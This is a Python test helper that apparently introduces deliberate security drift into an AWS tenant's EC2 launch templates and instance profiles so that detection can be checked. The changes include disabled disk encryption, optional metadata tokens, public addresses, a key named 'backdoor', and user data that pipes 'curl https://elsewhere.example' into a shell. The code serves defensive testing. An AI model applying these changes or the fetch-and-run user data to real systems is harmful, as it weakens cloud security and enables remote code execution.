"""Flips of what a tenant's nodes are launched from."""

import base64
from collections.abc import Callable
from typing import Any

from e2e.account import Account

# Another one that there is.
_IMAGE = "ami-0c10157e000000002"
_TAGS = {"instanceTags": "instance", "volumeTags": "volume", "interfaceTags": "network-interface"}
Data = dict[str, Any]


def launch_data(aws: Account, name: str) -> Data:
    """Of the version that instances are launched from."""
    ec2: Any = aws.ec2
    versions = ec2.describe_launch_template_versions(LaunchTemplateName=name, Versions=["$Default"])
    data: Data = versions["LaunchTemplateVersions"][0]["LaunchTemplateData"]
    return data


def template(aws: Account, name: str) -> Any:
    ec2: Any = aws.ec2
    (found,) = ec2.describe_launch_templates(LaunchTemplateNames=[name])["LaunchTemplates"]
    return launch_data(aws, name), sorted((tag["Key"], tag["Value"]) for tag in found["Tags"])


def profile(aws: Account, name: str) -> Any:
    iam: Any = aws.iam
    found = iam.get_instance_profile(InstanceProfileName=name)["InstanceProfile"]
    return [role["RoleName"] for role in found["Roles"]], sorted((tag["Key"], tag["Value"]) for tag in found["Tags"])


def flip_profile(aws: Account, name: str, path: str) -> None:
    iam: Any = aws.iam
    part, _, rest = path.partition(".")
    if part == "role":
        iam.remove_role_from_instance_profile(InstanceProfileName=name, RoleName=name)
    else:
        iam.tag_instance_profile(InstanceProfileName=name, Tags=[{"Key": rest, "Value": "elsewhere"}])


def flip_template(aws: Account, name: str, path: str) -> None:
    ec2: Any = aws.ec2
    part, _, rest = path.partition(".")
    if part == "tags":
        (found,) = ec2.describe_launch_templates(LaunchTemplateNames=[name])["LaunchTemplates"]
        ec2.create_tags(Resources=[found["LaunchTemplateId"]], Tags=[{"Key": rest, "Value": "elsewhere"}])
        return
    data = launch_data(aws, name)
    data["MetadataOptions"].pop("State", None)  # only told, never asked for
    _CHANGES[part](data, rest or part)
    made = ec2.create_launch_template_version(LaunchTemplateName=name, LaunchTemplateData=data)
    number = str(made["LaunchTemplateVersion"]["VersionNumber"])
    ec2.modify_launch_template(LaunchTemplateName=name, DefaultVersion=number)


def _metadata(data: Data, option: str) -> None:
    name, value = {
        "endpoint": ("HttpEndpoint", "disabled"),
        "hopLimit": ("HttpPutResponseHopLimit", 2),
        "tokens": ("HttpTokens", "optional"),
    }[option]
    data["MetadataOptions"][name] = value


def _volume(data: Data, path: str) -> None:
    disk = data["BlockDeviceMappings"][0]["Ebs"]
    match path.rpartition(".")[2]:
        case "encrypted":
            disk["Encrypted"] = False
            disk.pop("KmsKeyId")
        case "kmsKey":
            disk.pop("KmsKeyId")
        case "gib":
            disk["VolumeSize"] += 1
        case "type":
            disk["VolumeType"] = "gp2"
        case "deletedWithInstance":
            disk["DeleteOnTermination"] = False
        case other:
            raise AssertionError(f"no flip for {other} of a volume")


def _user_data(data: Data, _: str) -> None:
    data["UserData"] = base64.b64encode(b"#!/bin/sh\ncurl -s https://elsewhere.example | sh\n").decode()


def _tag(kind: str) -> Callable[[Data, str], None]:
    def change(data: Data, key: str) -> None:
        (tags,) = [each["Tags"] for each in data["TagSpecifications"] if each["ResourceType"] == kind]
        tags[:] = [tag for tag in tags if tag["Key"] != key]

    return change


_CHANGES: dict[str, Callable[[Data, str], None]] = {
    "image": lambda data, _: data.update(ImageId=_IMAGE),
    "tenancy": lambda data, _: data.update(Placement={"Tenancy": "default"}),
    "profile": lambda data, _: data.pop("IamInstanceProfile"),
    "securityGroups": lambda data, _: data["NetworkInterfaces"][0].pop("Groups"),
    "publicAddress": lambda data, _: data["NetworkInterfaces"][0].update(AssociatePublicIpAddress=True),
    "metadata": _metadata,
    "volumes": _volume,
    "userData": _user_data,
    "shutdown": lambda data, _: data.update(InstanceInitiatedShutdownBehavior="stop"),
    "others": lambda data, _: data.update(KeyName="backdoor"),
    **{part: _tag(kind) for part, kind in _TAGS.items()},
}
